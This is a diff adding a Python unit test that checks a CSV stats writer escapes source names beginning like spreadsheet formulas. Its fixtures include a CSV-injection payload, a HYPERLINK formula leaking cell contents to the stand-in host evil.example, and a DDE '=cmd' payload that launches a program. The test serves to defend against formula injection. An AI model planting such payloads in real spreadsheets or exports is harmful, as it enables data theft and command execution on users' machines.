@@ -80,3 +80,29 @@ def test_bundled_data_matches_its_builder(tmp_path):
     for name in ("seeds.jsonl", "replay.jsonl"):
         assert (tmp_path / name).read_text() == bundled_path(name).read_text(), f"{name} is stale"
 
+
+
+def test_stats_csv_guards_hostile_source_names_and_keeps_numbers(tmp_path):
+    """stats.csv is for spreadsheets: a source name from the data (the one text column; question
+    ids only decide which row a record counts in) that starts like a formula opens as text."""
+    import csv
+
+    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
+    records = [
+        {"id": "=cmd|' /C calc'!A0", "source": hyperlink, "tests": ["t"] * 2},
+        {"id": "+1", "source": "-2+3", "tests": ["t"]},
+        {"id": "b", "source": "oss\r@x", "tests": ["t"] * 4},
+    ]
+    write_records(records, tmp_path / "synth.jsonl")
+    write_records([{"id": "=cmd|' /C calc'!A0", "tests": ["t"], "num_tests_before": 2}], tmp_path / "filter.jsonl")
+    write_records([{"id": "=cmd|' /C calc'!A0"}], tmp_path / "pairs.jsonl")
+    run_stats(StatsConfig(run_dir=str(tmp_path)))
+    with open(tmp_path / "stats.csv", newline="") as f:
+        rows = list(csv.reader(f))
+    assert rows[0][:3] == ["source", "questions_synthesized", "questions"]
+    by_source = {row[0]: row[1:] for row in rows[1:]}
+    assert set(by_source) == {"'" + hyperlink, "'-2+3", "oss\r@x", "total"}
+    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in by_source)
+    hostile = dict(zip(rows[0][1:], by_source["'" + hyperlink]))
+    assert hostile["questions_synthesized"] == "1" and hostile["questions"] == "1" and hostile["pairs"] == "1"
+    assert hostile["avg_tests_before"] == "2.0" and hostile["avg_tests_after"] == "1.0"
